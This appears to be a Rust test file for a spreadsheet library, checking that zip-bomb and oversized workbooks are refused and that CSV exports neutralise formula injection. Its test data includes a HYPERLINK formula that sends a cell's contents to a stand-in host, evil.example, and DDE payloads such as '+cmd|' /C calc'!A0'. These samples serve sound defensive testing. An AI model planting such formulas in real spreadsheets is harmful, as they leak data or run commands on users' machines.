//! Files made to hurt: workbooks that unpack to gigabytes or spread two cells a million rows
//! apart are refused by the limits before they are unpacked or laid out; CSV exports carry no
//! live formulas, and importing them gives back exactly what was exported.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::time::Instant;

use framewright_interop::catalogue::spreadsheet::{self, CatalogueOptions, Spreadsheet};
use framewright_interop::catalogue::{ImportError, NoProgress};
use framewright_interop::framework::workbook;
use framewright_model::Limits;

use crate::common;

fn bomb(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/bombs")
        .join(name)
}

fn refused_by(e: &ImportError) -> &'static str {
    match e {
        ImportError::Limit { exceeded, .. } => exceeded.limit,
        other => panic!("not a limit: {other}"),
    }
}

#[test]
fn workbooks_that_unpack_to_gigabytes_are_refused_before_they_are_read() {
    // The headers state the true size: refused before anything is unpacked.
    let path = bomb("bomb.xlsx");
    let start = Instant::now();
    let options = CatalogueOptions::for_file(&path);
    let e = spreadsheet::read_xlsx(&path, &options, &mut NoProgress).unwrap_err();
    assert_eq!(refused_by(&e), "max_workbook_bytes", "{e}");
    assert!(e.to_string().contains("bomb.xlsx"), "{e}");
    assert!(e.to_string().contains("unpacks to more than 64 MiB"), "{e}");
    eprintln!("bomb.xlsx: refused in {:?}: {e}", start.elapsed());
    let e = spreadsheet::read_catalogue_xlsx(&path, &options, &mut NoProgress).unwrap_err();
    assert_eq!(refused_by(&e), "max_workbook_bytes", "{e}");
    let bytes = std::fs::read(&path).unwrap();
    let e =
        workbook::xlsx::read(&bytes, "bomb.xlsx", &Limits::default(), &mut NoProgress).unwrap_err();
    assert_eq!(refused_by(&e), "max_workbook_bytes", "{e}");

    // The headers claim 1,000 bytes: refused while unpacking, at the 1,001st byte, before the
    // reader sees it.
    let path = bomb("bomb-lying.xlsx");
    let options = CatalogueOptions::for_file(&path);
    let e = spreadsheet::read_xlsx(&path, &options, &mut NoProgress).unwrap_err();
    assert!(
        e.to_string()
            .contains("`xl/worksheets/sheet1.xml` in the file cannot be unpacked"),
        "{e}"
    );
    assert!(e.to_string().contains("made to exhaust memory"), "{e}");
}

#[test]
fn a_workbook_under_the_size_limit_that_packs_too_well_is_refused() {
    // 8 MiB of one repeated row packs about a thousand to one.
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet().set_name("Competencies").unwrap();
    sheet.write_string(0, 0, "id").unwrap();
    sheet.write_string(0, 1, "name").unwrap();
    let long = "x".repeat(30_000);
    for row in 1..300 {
        sheet.write_string(row, 0, format!("{row}{long}")).unwrap();
    }
    let bytes = book.save_to_buffer().unwrap();
    let e = workbook::xlsx::read(&bytes, "dense.xlsx", &Limits::default(), &mut NoProgress)
        .unwrap_err();
    assert_eq!(refused_by(&e), "max_compression_ratio", "{e}");
}

#[test]
fn a_sheet_with_cells_a_million_rows_apart_is_refused_not_laid_out() {
    // Two cells: A1 and A1000000. Laid out whole that is a million rows; the reader stops at
    // the row limit instead.
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet().set_name("Competencies").unwrap();
    sheet.write_string(0, 0, "id").unwrap();
    sheet.write_string(0, 1, "name").unwrap();
    sheet.write_string(999_999, 0, "far").unwrap();
    sheet.write_string(1, 16_000, "wide").unwrap();
    let bytes = book.save_to_buffer().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("sparse.xlsx");
    std::fs::write(&path, &bytes).unwrap();
    let options = CatalogueOptions::for_file(&path);
    let e = spreadsheet::read_xlsx(&path, &options, &mut NoProgress).unwrap_err();
    assert!(matches!(refused_by(&e), "max_rows" | "max_columns"), "{e}");
    let mut options = CatalogueOptions::for_file(&path);
    options.limits.max_rows = 2_000_000;
    let e = spreadsheet::read_xlsx(&path, &options, &mut NoProgress).unwrap_err();
    assert_eq!(refused_by(&e), "max_columns", "{e}");
    assert!(e.to_string().contains("sheet `Competencies`"), "{e}");
}

#[test]
fn workbooks_within_the_limits_still_read() {
    let framework = common::rich_framework();
    let bytes = workbook::xlsx::write(&framework).unwrap();
    let (back, _) =
        workbook::xlsx::read(&bytes, "f.xlsx", &Limits::default(), &mut NoProgress).unwrap();
    assert_eq!(back.competencies.len(), framework.competencies.len());
    let tight = Limits {
        max_workbook_bytes: 1_000,
        ..Limits::default()
    };
    let e = workbook::xlsx::read(&bytes, "f.xlsx", &tight, &mut NoProgress).unwrap_err();
    assert_eq!(refused_by(&e), "max_workbook_bytes");
}

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tTabbed",
    "\rReturned",
];

/// A framework whose competency names, definitions and indicators start like formulas, or with
/// a quote that must survive.
fn formula_framework() -> framewright_model::Framework {
    let mut framework = common::rich_framework();
    while framework.competencies.len() < FORMULAS.len() + 3 {
        let mut extra = framework.competencies[0].clone();
        extra.id = format!("extra-{}", framework.competencies.len());
        framework.competencies.push(extra);
    }
    let names = FORMULAS.iter().map(|s| s.to_string()).chain([
        "'=already quoted".to_string(),
        "'tis plain".to_string(),
        "''=two".to_string(),
    ]);
    for (c, name) in framework.competencies.iter_mut().zip(names) {
        c.name = name.clone();
        c.definition = Some(name.clone());
    }
    framework
}

/// Cells of a CSV text that a spreadsheet would run as formulas.
fn live_formulas(text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    let mut live = Vec::new();
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                live.push(cell.to_string());
            }
        }
    }
    live
}

#[test]
fn csv_exports_carry_no_live_formulas_and_import_back_unchanged() {
    let framework = formula_framework();
    assert!(framework.competencies.len() >= FORMULAS.len() + 3);
    let text = workbook::csv::write(&framework);
    assert_eq!(live_formulas(&text), Vec::<String>::new());
    assert!(text.contains("'=HYPERLINK("), "{text}");
    assert!(text.contains("''=already quoted"), "{text}");
    assert!(text.contains(",'tis plain,"), "{text}");
    let (back, report) = workbook::csv::read(text.as_bytes(), "f.csv", &mut NoProgress).unwrap();
    assert!(report.ignored.is_empty(), "{:?}", report.ignored);
    let names: Vec<&str> = back.competencies.iter().map(|c| c.name.as_str()).collect();
    let expected: Vec<&str> = framework
        .competencies
        .iter()
        .map(|c| c.name.as_str())
        .collect();
    assert_eq!(names, expected);
    let definitions: Vec<Option<&str>> = back
        .competencies
        .iter()
        .map(|c| c.definition.as_deref())
        .collect();
    let expected: Vec<Option<&str>> = framework
        .competencies
        .iter()
        .map(|c| c.definition.as_deref())
        .collect();
    assert_eq!(definitions, expected);

    let flat = framewright_interop::framework::csv::render(&framework).unwrap();
    assert_eq!(live_formulas(&flat), Vec::<String>::new());
    assert!(flat.contains("'=HYPERLINK("), "{flat}");
}

#[test]
fn a_catalogue_csv_with_neutralised_cells_imports_them_unchanged() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("c.csv");
    std::fs::write(
        &path,
        "id,name,alt_labels,definition\n\
         a,\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"click\"\")\",,'+1\n\
         b,''=quoted,,'tis\n",
    )
    .unwrap();
    let options = CatalogueOptions::for_file(&path);
    let Spreadsheet::Catalogue(catalogue) =
        spreadsheet::read_csv(&path, &options, &mut NoProgress).unwrap()
    else {
        panic!("a catalogue")
    };
    let c = &catalogue.competencies;
    assert_eq!(c[0].name, "=HYPERLINK(\"http://evil.example\",\"click\")");
    assert_eq!(c[0].definition.as_deref(), Some("+1"));
    assert_eq!(c[1].name, "'=quoted");
    assert_eq!(c[1].definition.as_deref(), Some("'tis"));
}

#[test]
fn a_catalogue_csv_of_too_many_rows_is_refused_at_the_first_row_past_the_limit() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("many.csv");
    let mut text = String::from("id,name,alt_labels,definition\n");
    for i in 0..5 {
        text.push_str(&format!("c{i},C {i},,\n"));
    }
    std::fs::write(&path, text).unwrap();
    let mut options = CatalogueOptions::for_file(&path);
    options.limits.max_rows = 4;
    let e = spreadsheet::read_csv(&path, &options, &mut NoProgress).unwrap_err();
    assert_eq!(refused_by(&e), "max_rows", "{e}");
    assert!(e.to_string().contains("more than 4 rows"), "{e}");
    options.limits.max_rows = 10;
    options.limits.max_items = 3;
    let e = spreadsheet::read_csv(&path, &options, &mut NoProgress).unwrap_err();
    assert_eq!(refused_by(&e), "max_items", "{e}");
    options.limits.max_items = 5;
    assert!(spreadsheet::read_csv(&path, &options, &mut NoProgress).is_ok());
}
